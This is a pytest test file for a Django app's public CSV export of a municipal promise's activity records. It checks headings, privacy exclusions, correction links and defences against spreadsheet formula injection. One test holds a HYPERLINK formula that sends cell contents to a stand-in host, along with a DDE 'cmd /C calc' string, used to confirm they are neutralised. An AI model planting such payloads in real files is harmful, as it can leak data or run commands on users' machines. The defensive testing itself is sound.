"""The file of a promise's records: public facts alone, and no text in it is ever a formula."""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest
from django.test import Client
from pytest_django import DjangoAssertNumQueries

from medborgarlofte.promises.actions import correct_activity, log_activities, log_activity
from medborgarlofte.promises.drafts import Activity
from medborgarlofte.promises.models import ActivityRecord, Promise
from medborgarlofte.publishing.csv_cells import csv_line, harmless
from tests.building import ACTOR, a_commitment, a_promise, an_unpublished_promise

from .made import TODAY, commitment, logged

pytestmark = pytest.mark.django_db
ADDRESS = "/granvik/2024/poster.csv"
DAY = date(2024, 5, 17)


def file_of(client: Client, address: str = ADDRESS) -> str:
    answer = client.get(address)
    assert answer.status_code == 200
    return b"".join(answer.streaming_content).decode()  # type: ignore[attr-defined]


def rows_of(client: Client, address: str = ADDRESS) -> list[dict[str, str]]:
    text = file_of(client, address).removeprefix("\ufeff")
    return list(csv.DictReader(io.StringIO(text, newline=""), delimiter=";"))


@pytest.fixture
def promise() -> Promise:
    """One commitment of the police, one of both."""
    return a_promise(a_commitment("Polisen kontrollerar."), a_commitment("Båda vandrar.", by="both"))


def test_each_record_is_a_line_of_public_facts(client: Client, promise: Promise) -> None:
    record = logged(commitment(promise), DAY, 3)
    (row,) = rows_of(client)
    assert row == {
        "Post": str(record.pk),
        "Åtagande": "1",
        "Åtagandets ord": "Polisen kontrollerar.",
        "Dag": "2024-05-17",
        "Antal": "3",
        "Av": "Polisen",
        "Rapporterat av": "",
        "Infört": "2024-06-30",
        "Tar igen perioden som började": "",
        "Rättar post": "",
        "Rättad av post": "",
        "Skäl till rättelsen": "",
    }


def test_it_is_what_swedish_spreadsheets_open(client: Client, promise: Promise) -> None:
    answer = client.get(ADDRESS)
    assert answer["Content-Type"] == "text/csv; charset=utf-8"
    assert answer["Content-Disposition"] == 'attachment; filename="granvik-2024-poster.csv"'
    assert file_of(client).startswith("\ufeffPost;Åtagande;")


def test_note_place_and_hours_are_not_in_it(client: Client, promise: Promise) -> None:
    one = commitment(promise)
    hidden = Activity((one,), tuple(one.parties.all()), DAY, 1, place="Hemgatan", note="Hemligt ord")
    log_activity(ACTOR, hidden, today=TODAY)
    text = file_of(client)
    assert "Hemgatan" not in text
    assert "Hemligt" not in text


def test_records_of_a_sensitive_commitment_are_not_in_it(client: Client) -> None:
    promise = a_promise(a_commitment("Känsligt.", sensitive=True), a_commitment("Öppet."))
    logged(commitment(promise, 2), DAY)
    logged(commitment(promise, 1), DAY)
    assert [row["Åtagandets ord"] for row in rows_of(client)] == ["Öppet."]


def test_a_correction_and_what_it_corrects_name_each_other_and_the_reason(
    client: Client, promise: Promise
) -> None:
    one = commitment(promise)
    old = logged(one, DAY, 3)
    right = Activity((one,), tuple(one.parties.all()), DAY, 2)
    new = correct_activity(ACTOR, old, right, reason="Räknat fel.", today=TODAY)
    first, second = rows_of(client)
    assert (first["Antal"], first["Rättad av post"], first["Rättar post"]) == ("3", str(new.pk), "")
    assert (second["Antal"], second["Rättad av post"], second["Rättar post"]) == ("2", "", str(old.pk))
    assert first["Skäl till rättelsen"] == second["Skäl till rättelsen"] == "Räknat fel."


def test_one_act_by_two_parties_for_two_commitments_is_a_line_for_each_commitment(
    client: Client, promise: Promise
) -> None:
    parties = tuple(commitment(promise, 2).parties.order_by("pk"))
    both = Activity((commitment(promise, 1), commitment(promise, 2)), parties, DAY)
    record = log_activity(ACTOR, both, today=TODAY)
    assert [(row["Post"], row["Åtagande"], row["Av"]) for row in rows_of(client)] == [
        (str(record.pk), "1", "Polisen, Granviks kommun"),
        (str(record.pk), "2", "Polisen, Granviks kommun"),
    ]


FORMULA = '=HYPERLINK("http://127.0.0.1/?"&A1;"Klicka")'


def test_a_formula_put_into_a_text_comes_out_as_a_text(client: Client) -> None:
    promise = a_promise(a_commitment(FORMULA))
    one = commitment(promise)
    old = logged(one, DAY)
    again = Activity((one,), tuple(one.parties.all()), DAY, 2)
    correct_activity(ACTOR, old, again, reason="+1+cmd|' /C calc'!A0", today=TODAY)
    for row in rows_of(client):
        assert row["Åtagandets ord"] == f"'{FORMULA}"
        assert row["Skäl till rättelsen"] == "'+1+cmd|' /C calc'!A0"


@pytest.mark.parametrize("sign", ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋"])
def test_every_beginning_of_a_formula_is_made_harmless(sign: str) -> None:
    assert harmless(f"{sign}1+1") == f"'{sign}1+1"


@pytest.mark.parametrize("text", ["", "Polisen", "1=1", "'=1", "a\t=1"])
def test_other_texts_stay_as_they_are(text: str) -> None:
    assert harmless(text) == text


def test_a_line_holds_days_numbers_and_nothing() -> None:
    assert csv_line([DAY, -3, None, "a;b", 'c"d']) == '2024-05-17;-3;;"a;b";"c""d"\r\n'


def test_in_english_the_headings_are_english(client: Client, promise: Promise) -> None:
    assert file_of(client, f"/en{ADDRESS}") != file_of(client)


def test_an_empty_promise_has_headings_alone(client: Client, promise: Promise) -> None:
    assert rows_of(client) == []


def test_the_page_of_the_promise_links_to_it(client: Client, promise: Promise) -> None:
    assert f'href="{ADDRESS}"' in client.get("/granvik/2024/").content.decode()


@pytest.mark.parametrize("address", ["/granvik/1999/poster.csv", "/ingenstans/2024/poster.csv"])
def test_there_is_no_file_where_there_is_no_promise(client: Client, promise: Promise, address: str) -> None:
    assert client.get(address).status_code == 404


def test_what_is_not_published_has_no_file(client: Client) -> None:
    an_unpublished_promise(a_commitment(municipality="Ekhamn"), municipality="Ekhamn")
    assert client.get("/ekhamn/2024/poster.csv").status_code == 404


def test_thousands_of_records_take_no_more_questions(
    client: Client, promise: Promise, django_assert_max_num_queries: DjangoAssertNumQueries
) -> None:
    one = commitment(promise)
    parties = tuple(one.parties.all())
    log_activities(ACTOR, [Activity((one,), parties, DAY, n % 5) for n in range(2_500)], today=TODAY)
    with django_assert_max_num_queries(8):
        assert len(rows_of(client)) == ActivityRecord.objects.count() == 2_500
